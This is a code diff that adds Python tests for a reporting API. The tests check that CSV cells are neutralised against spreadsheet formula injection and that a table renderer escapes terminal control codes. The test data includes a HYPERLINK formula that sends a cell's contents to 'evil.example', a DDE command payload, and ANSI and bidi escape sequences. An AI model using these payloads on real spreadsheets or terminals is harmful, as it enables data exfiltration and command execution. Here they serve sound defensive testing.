@@ -4,10 +4,18 @@ from __future__ import annotations
 
 import csv
 import io
+import uuid
 
+import asyncpg
 import httpx
 
+from api.routes.reports import csv_cell
+from schemas.classification import DeploymentTarget, Procurement
+from schemas.stages import InitiativeStatus
+from schemas.taxonomy import ReasonCode
 from tests.api.conftest import auth, submission
+from tests.db.test_events_repo import T0
+from tests.db.test_reports import _record, _start
 from worker.report_table import render_table
 
 
@@ -71,3 +79,58 @@ def test_render_table_aligns_columns() -> None:
         "FINDINGS_OPEN          3",
     ]
     assert render_table([]) == "(no rows)"
+
+
+async def test_csv_and_table_neutralise_formulas_and_terminal_escapes(
+    api: httpx.AsyncClient, pool: asyncpg.Pool
+) -> None:
+    """A title written as a spreadsheet formula reaches CSV as text; one with ANSI escapes cannot drive a terminal."""
+    team = f"csv-{uuid.uuid4().hex[:8]}"
+    titles = {
+        "f": '=HYPERLINK("http://evil.example/?"&A1,"open")',
+        "p": "+1+cmd|' /C calc'!A0",
+        "t": "\tplain after a tab",
+        "e": "\x1b]0;pwned\x07\x1b[2Jquiet \u202eevil",
+    }
+    async with pool.acquire() as conn:
+        for key, title in titles.items():
+            iid = f"{key}-{uuid.uuid4().hex[:12]}"
+            walk = _start(iid, T0).stall(ReasonCode.APPROVAL_PENDING)
+            await _record(
+                conn,
+                walk,
+                team=team,
+                bu="@SUM(A1:A9)",
+                procurement=Procurement.IT_PLAN,
+                target=DeploymentTarget.ON_PREM,
+                submitted_at=T0,
+                status=InitiativeStatus.STALLED,
+                awaiting_roles=["portfolio"],
+                title=title,
+            )
+
+    as_json = await api.get("/v1/reports/stalled-now", params={"team": team}, headers=auth("vic@example.com"))
+    assert sorted(r["title"] for r in as_json.json()["rows"]) == sorted(titles.values())  # JSON keeps the data
+    as_csv = await api.get(
+        "/v1/reports/stalled-now", params={"team": team, "format": "csv"}, headers=auth("vic@example.com")
+    )
+    rows = list(csv.DictReader(io.StringIO(as_csv.text)))
+    assert sorted(r["title"] for r in rows) == sorted(
+        ["'" + titles["f"], "'" + titles["p"], "'" + titles["t"], titles["e"]]
+    )
+    assert {r["business_unit"] for r in rows} == {"'@SUM(A1:A9)"}
+    assert {r["stalled_seconds"].lstrip("'") == r["stalled_seconds"] for r in rows} == {True}
+
+    table = render_table(as_json.json()["rows"])
+    assert not any(c in table for c in "\x1b\x07\u202e")
+    assert "\\x1b]0;pwned\\x07\\x1b[2Jquiet \\u202eevil" in table
+
+
+def test_csv_cells_keep_numbers_and_ordinary_text() -> None:
+    assert csv_cell(-5) == -5
+    assert csv_cell(2.5) == 2.5
+    assert csv_cell("ml-platform") == "ml-platform"
+    assert csv_cell("-1") == "'-1"
+    assert csv_cell(["=a", "b"]) == "'=a|b"
+    assert csv_cell("\rcmd") == "'\rcmd"
+    assert csv_cell(None) is None
